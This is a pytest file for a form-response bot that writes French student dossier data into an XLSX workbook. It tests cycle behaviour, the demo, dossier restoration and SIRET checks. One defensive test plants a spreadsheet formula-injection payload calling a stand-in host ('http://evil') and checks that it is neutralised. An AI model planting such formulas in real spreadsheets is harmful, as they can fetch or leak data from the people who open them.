"""The same cycle on the local XLSX backend, and the demo end to end."""

import io

from openpyxl import load_workbook

from bot.app.demo import build_workbook, run_demo
from bot.app.wiring import make_cycle
from tests.app.conftest import ROOT, at, outbox_keys


def cells(path) -> list[dict]:
    rows = list(load_workbook(path).worksheets[0].iter_rows(values_only=True))
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def test_local_cycle_numbers_rows_and_a_quiet_cycle_does_not_touch_the_file(make_config, tmp_path):
    book = tmp_path / "book.xlsx"
    build_workbook(ROOT / "samples" / "fvma-reponses.csv", book)
    cycle = make_cycle(make_config(sheet={"backend": "local", "local": {"path": str(book)}}))
    cycle.run(at(6))
    first = book.stat().st_mtime_ns
    report = cycle.run(at(6, 10))
    assert report.writes == [] and book.stat().st_mtime_ns == first
    rows = cells(book)
    assert rows[0]["N° dossier"] == "FVMA-2026-0001" and rows[0]["Statut"] == "En attente de décision"


def test_local_cycle_never_writes_a_formula_from_a_response(make_config, tmp_path):
    book = tmp_path / "book.xlsx"
    build_workbook(ROOT / "samples" / "fvma-reponses.csv", book)
    wb = load_workbook(book)
    wb.worksheets[0]["M2"] = "=IMPORTDATA(\"http://evil\")"   # SIRET: copied into a finding
    wb.save(book)
    cycle = make_cycle(make_config(sheet={"backend": "local", "local": {"path": str(book)}}))
    cycle.run(at(6))
    check = cells(book)[0]["Contrôle automatique"]
    assert "IMPORTDATA" in check and not check.startswith("=")
    assert load_workbook(book).worksheets[0]["X2"].data_type != "f"


def test_responses_before_notify_since_are_adopted_without_any_email(make_config, tmp_path):
    book = tmp_path / "book.xlsx"
    build_workbook(ROOT / "samples" / "fvma-reponses.csv", book)
    config = make_config(sheet={"backend": "local", "local": {"path": str(book)}},
                         schedule={"notify_since": "2026-12-01T00:00:00+01:00"})
    make_cycle(config).run(at(6))
    assert outbox_keys(tmp_path / "outbox") == []
    assert cells(book)[0]["N° dossier"] == "FVMA-2026-0001"


def test_the_demo_leaves_a_workbook_and_emails_for_every_path(make_config, tmp_path):
    out = io.StringIO()
    assert run_demo(make_config(), tmp_path / "demo", out) == 0
    statuses = {r["Statut"] for r in cells(tmp_path / "demo" / "fvma-demo.xlsx")}
    assert {"Validé — CACTUS initialisé, notifications envoyées", "Validé — notifications envoyées",
            "Validé — CACTUS à initialiser", "À corriger — étudiant notifié", "Décision illisible",
            "En attente de décision", "Remplacé par le dossier FVMA-2026-0011"} <= statuses
    keys = outbox_keys(tmp_path / "demo" / "outbox")
    assert len(keys) == len(set(keys)) == 31


def test_a_dossier_cell_overwritten_or_cleared_by_mistake_is_restored_without_any_email(make_config, tmp_path):
    book = tmp_path / "book.xlsx"
    build_workbook(ROOT / "samples" / "fvma-reponses.csv", book)
    cycle = make_cycle(make_config(sheet={"backend": "local", "local": {"path": str(book)}}))
    cycle.run(at(6))
    before = outbox_keys(tmp_path / "outbox")
    wb = load_workbook(book)
    sheet = wb.worksheets[0]
    number = [c.value for c in sheet[1]].index("N° dossier") + 1
    sheet.cell(2, number, "Conforme")
    sheet.cell(3, number, None)
    wb.save(book)
    cycle.run(at(6, 10))
    assert [r["N° dossier"] for r in cells(book)][:2] == ["FVMA-2026-0001", "FVMA-2026-0002"]
    assert outbox_keys(tmp_path / "outbox") == before


def test_a_correction_in_a_re_created_questions_column_is_checked_again(make_config, tmp_path):
    # A question deleted and re-created in the form gets a second column with the same title; newer answers
    # sit there. Correcting one must change what the check says, whatever the first column holds.
    book = tmp_path / "book.xlsx"
    build_workbook(ROOT / "samples" / "fvma-reponses.csv", book)
    wb = load_workbook(book)
    sheet = wb.worksheets[0]
    later = sheet.max_column + 1
    sheet.cell(row=1, column=later, value="SIRET")
    sheet["M2"] = None
    sheet.cell(row=2, column=later, value="32682006500084")             # fails the Luhn check
    wb.save(book)
    cycle = make_cycle(make_config(sheet={"backend": "local", "local": {"path": str(book)}}))
    cycle.run(at(6))
    assert "SIRET" in cells(book)[0]["Contrôle automatique"]
    wb = load_workbook(book)
    wb.worksheets[0].cell(row=2, column=later, value="32682006500083")
    wb.save(book)
    cycle.run(at(6, 10))
    assert "SIRET" not in cells(book)[0]["Contrôle automatique"]
